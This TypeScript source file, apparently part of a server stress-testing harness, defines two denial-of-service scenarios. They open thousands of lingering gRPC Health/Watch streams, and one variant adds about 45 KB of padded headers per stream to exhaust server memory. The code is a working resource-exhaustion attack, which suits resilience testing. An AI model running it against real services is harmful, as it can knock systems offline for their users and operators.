import { isOver, servicePath, together, type Attack, type AttackContext } from '../attack.js';
import { headersFrames, messageFrame, type HeaderPairs } from '../wire.js';

async function watch(context: AttackContext, streams: number, more: HeaderPairs): Promise<void> {
  while (!isOver(context)) {
    const peer = await context.connect();
    if (peer === undefined) return;
    for (let at = 0; at < streams && peer.isWelcome() && !isOver(context); at++) {
      const stream = peer.nextStream();
      const headers = headersFrames(stream, context.headers(servicePath.healthWatch, more), false);
      await Promise.race([
        peer.write(Buffer.concat([headers, messageFrame(stream, Buffer.alloc(0), true)])),
        context.over,
      ]);
      context.count('watches');
    }
    await Promise.race([peer.closed, context.over]);
    peer.destroy();
  }
}

/** Streams that stay open, of somebody who has shown nothing. */
export const healthWatch: Attack = {
  name: 'health-watch',
  what: '10,000 Health/Watch on 10 connections',
  by: 'either',
  enough: { what: 'watches', count: 8000 },
  run: (context) => together(10, () => watch(context, 1000, [])),
};

/** The same with headers that somebody has to keep. */
export const fatHealthWatch: Attack = {
  name: 'fat-health-watch',
  what: '4 connections of Health/Watch with 45 KB of headers',
  by: 'either',
  enough: { what: 'watches', count: 4000 },
  run: (context) => {
    const fat: HeaderPairs = [1, 2, 3].map((number) => [`x-fat-${number}`, 'f'.repeat(15_000)] as const);
    return together(4, () => watch(context, 2000, fat));
  },
};
